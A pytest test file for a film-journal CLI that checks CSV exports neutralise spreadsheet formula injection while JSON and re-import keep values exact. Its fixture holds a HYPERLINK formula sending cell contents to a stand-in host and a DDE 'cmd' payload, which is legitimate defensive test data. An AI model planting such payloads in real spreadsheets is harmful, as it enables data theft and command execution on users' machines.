"""Every CSV filmlog writes shows a formula as text (OWASP's rule), and reads it back exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import rows

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


@pytest.fixture
def hostile(cli, journal: Path) -> Path:
    cli(
        "add",
        HOSTILE,
        "-y",
        "1999",
        "-d",
        "@director",
        "-w",
        "2024-01-02",
        "-r",
        "4",
        "-t",
        "+tag",
        "--review",
        "-1 stars, =cmd|' /C calc'!A0",
        ok=True,
    )
    cli("add", "-w", "2024-01-03", "--", "-Tabbed", ok=True)
    return journal


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "command",
    [
        ("export", "csv"),
        ("export", "letterboxd"),
        ("list", "--format", "csv"),
        ("diary", "--format", "csv"),
    ],
)
def test_no_cell_starts_like_a_formula(cli, hostile, command) -> None:
    out = cli(*command, ok=True).stdout
    written = cells(out)
    assert any(HOSTILE in c for c in written), out
    for cell in written:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + HOSTILE in written


def test_json_stays_exact(cli, hostile) -> None:
    films = json.loads(cli("list", "--format", "json", ok=True).stdout)
    assert HOSTILE in [f["title"] for f in films]


def test_filmlogs_own_csv_reads_back_exact(cli, hostile, tmp_path: Path) -> None:
    exported = tmp_path / "for-letterboxd.csv"
    cli("export", "letterboxd", "-o", str(exported), ok=True)
    other = tmp_path / "other.db"
    cli("--db", str(other), "import", "letterboxd", str(exported), ok=True)
    assert rows(other, "SELECT title FROM films ORDER BY title") == sorted(
        [(HOSTILE,), ("-Tabbed",)]
    )
    assert rows(other, "SELECT review FROM entries WHERE review IS NOT NULL") == [
        ("-1 stars, =cmd|' /C calc'!A0",)
    ]
